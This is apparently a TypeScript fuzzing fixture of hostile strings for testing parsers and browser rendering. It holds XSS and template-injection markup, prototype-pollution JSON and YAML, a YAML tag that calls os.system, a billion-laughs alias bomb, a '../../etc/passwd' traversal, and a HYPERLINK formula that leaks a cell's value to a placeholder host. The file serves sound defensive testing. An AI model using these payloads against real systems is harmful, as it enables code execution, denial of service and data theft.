// What strangers put into files, links and fields: one table, for the fuzzing of every parser and for the stories in a browser.

/** Says that something was run: a page in which this is set has failed. */
export const RAN = 'duizhaoRan';

const run = `globalThis.${RAN}=true`;

/** Markup and addresses that would run something, if they were ever taken for more than text. */
export const SCRIPTS: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload=${run}>`,
  `<iframe srcdoc="<script>parent.${RAN}=true</script>"></iframe>`,
  `<a href="javascript:${run}">中文</a>`,
  `javascript:${run}`,
  `<style>@import url(//example.org/x.css)</style>`,
  `<math><mtext></p><style><a title="</style><img src onerror=${run}>">`,
  `\${${run}}{{constructor.constructor('${run}')()}}`,
  `=HYPERLINK("https://example.org/?"&A1,"x")`,
];

/** Names that every object has already. */
export const PROTOTYPE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
];

/** U+202A–202E, 2066–2069: marks that turn the direction of whatever follows. */
export const BIDI: readonly string[] = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
];

/** Halves of characters, in an order that no text has. */
export const LONE_SURROGATES: readonly string[] = ['\ud83d', '\ude00', '\ude00\ud83d', '中\ud842文'];

export const CONTROLS: readonly string[] = [
  '\0',
  '\u0001',
  '\b',
  '\u001b[2J',
  '\u001f',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\ufffe',
  '\u200b',
];

/** Beginnings that backtracking patterns, recursive readers and unpackers stumble over when they are repeated. */
export const REPEATED: readonly string[] = [
  '[',
  '{"a":',
  '(',
  '<a ',
  '<b>',
  '<!--',
  '<![CDATA[',
  '&',
  '&#x',
  '&lt;',
  '*',
  '_',
  '`',
  '> ',
  '- ',
  '1. ',
  '![](',
  '[a](',
  '|',
  '"',
  '""',
  '\t',
  ' ',
  '\n',
  '\r',
  '\\',
  "'",
  '{{c1::',
  '[sound:',
  '//',
  '#',
  ',',
  ';',
  '中',
  '中[',
  '中 ',
  'ni3 ',
  'ㄋ',
  'a',
  'xi',
  'é',
  '0',
  '一',
  '第一',
  '“',
  '：',
  '…',
  '\u0301',
  '\u202e',
  '👨‍👩‍👧‍👦',
  '00:00:01,000 --> ',
  '1\n00:00:01,000 --> 00:00:02,000\n中\n\n',
];

/** Values of JSON, as they are written: what no program of ours writes, and JSON allows. */
export const JSON_VALUES: readonly string[] = [
  'null',
  'true',
  '0',
  '-0',
  '1e400',
  '-1e400',
  '1e-400',
  '9007199254740993',
  '1.5',
  '-1',
  '4294967296',
  '""',
  '[]',
  '{}',
  '[[]]',
  '"\\u0000"',
  '"\\ud800"',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"length":1e9}',
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
];

/** YAML that other programs obey: aliases of aliases ("billion laughs"), tags, merges, several documents. */
export const YAML_FRAGMENTS: readonly string[] = [
  `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n`,
  '&a [*a]',
  '!!js/function "function(){}"',
  '!!python/object/apply:os.system ["ls"]',
  '!!binary AAAA',
  '<<: { a: 1 }',
  '__proto__: { polluted: true }',
  '? [a, b]\n: c\n',
  '---\n',
  '...\n',
  '%YAML 9.9\n---\n',
  '? '.repeat(2000),
  '- '.repeat(2000),
  '[',
  '{',
  '|\n',
  '>-\n',
  '\t',
];

/** Short ones, to be put anywhere into a valid sample. */
export const FRAGMENTS: readonly string[] = [
  ...SCRIPTS,
  ...PROTOTYPE_KEYS,
  ...BIDI,
  ...LONE_SURROGATES,
  ...CONTROLS,
  ...JSON_VALUES.filter((value) => value.length < 100),
  'NaN',
  '中文',
  '../../etc/passwd',
  '%',
  '%2',
  '%00',
  '\n',
  '\t',
  '"',
];

/** A text for each kind of hostility, by its name: all of it in one field. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  empty: '',
  'script in every form': SCRIPTS.join('\n'),
  'prototype keys': PROTOTYPE_KEYS.join(' '),
  'bidi controls': `中${BIDI.join('文')}字`,
  'lone surrogates': `中${LONE_SURROGATES.join('文')}字`,
  'NUL and controls': `中${CONTROLS.join('文')}字`,
  'byte order marks': '\ufeff\ufeff中文\ufeff',
  'no letters': '。，！？…—',
  'one line of 10,000': '中'.repeat(10_000),
  '10,000 lines': '中\n'.repeat(10_000),
  'combining marks': `中${'\u0301'.repeat(10_000)}`,
  YAML: YAML_FRAGMENTS.join('\n'),
  ...Object.fromEntries(REPEATED.map((part) => [`2,000 × ${JSON.stringify(part)}`, part.repeat(2000)])),
  ...Object.fromEntries(JSON_VALUES.map((value) => [`JSON ${value.slice(0, 40)}`, value])),
};
